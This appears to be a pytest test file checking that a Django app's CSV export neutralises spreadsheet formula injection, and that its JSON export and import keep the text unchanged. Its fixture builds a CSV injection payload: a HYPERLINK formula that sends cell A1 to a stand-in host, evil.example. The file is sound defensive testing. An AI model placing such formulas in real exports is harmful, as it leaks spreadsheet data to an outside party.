"""The CSV export is spreadsheet-safe: no published text runs as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command

from claims.models import Claim, Tag
from claims.workflow import Status
from tests.factories import ClaimFactory, NoteFactory
from tests.test_exports import body, empty_database

pytestmark = pytest.mark.django_db

# Each character a spreadsheet treats as the start of a formula (or strips, then does).
LEADING = {"equals": "=", "plus": "+", "minus": "-", "at": "@", "tab": "\t", "cr": "\r"}


def hostile(lead: str) -> str:
    return f'{lead}HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def published_with(lead: str) -> Claim:
    claim = ClaimFactory(
        slug="hostile",
        status=Status.PUBLISHED,
        summary=hostile(lead)[:75],
        text=hostile(lead),
    )
    claim.tags.add(Tag.objects.create(name=hostile(lead)[:60]))
    note = NoteFactory(status=Status.PUBLISHED, title=hostile(lead))
    note.claims.add(claim)
    return claim


def csv_rows(api) -> list[dict[str, str]]:
    response = api.get("/api/v1/export.csv")
    assert response["Content-Disposition"] == 'attachment; filename="claims.csv"'
    return list(csv.DictReader(io.StringIO(body(response), newline="")))


@pytest.mark.parametrize("lead", LEADING.values(), ids=LEADING.keys())
def test_cells_from_claims_notes_and_tags_are_neutralised(api, lead, tmp_path):
    published_with(lead)
    (row,) = csv_rows(api)
    for column, expected in [
        ("summary", hostile(lead)[:75]),
        ("text", hostile(lead)),
        ("tags", hostile(lead)[:60]),
        ("note_titles", hostile(lead)),
    ]:
        assert row[column] == "'" + expected, column
    output = tmp_path / "export.csv"
    call_command("export", format="csv", output=str(output), stderr=io.StringIO())
    with output.open(newline="", encoding="utf-8") as file:
        (from_command,) = list(csv.DictReader(file))
    assert from_command["summary"] == "'" + hostile(lead)[:75]


def test_harmless_cells_and_numbers_are_left_as_they_are(api):
    ClaimFactory(slug="plain", status=Status.PUBLISHED, summary="A plain = sign inside")
    (row,) = csv_rows(api)
    assert row["summary"] == "A plain = sign inside"
    assert row["figure_count"] == "0"


def test_json_exports_and_the_import_keep_the_text_exactly(api, tmp_path):
    published_with("=")
    output = tmp_path / "export.jsonl"
    call_command("export", format="jsonl", output=str(output), stderr=io.StringIO())
    (document,) = [json.loads(line) for line in output.read_text(encoding="utf-8").splitlines()]
    assert document["text"] == hostile("=")
    empty_database()
    call_command("import", str(output), stdout=io.StringIO())
    claim = Claim.objects.get(slug="hostile")
    assert claim.text == hostile("=")
    assert claim.notes.get().title == hostile("=")
    assert claim.tags.get().name == hostile("=")[:60]
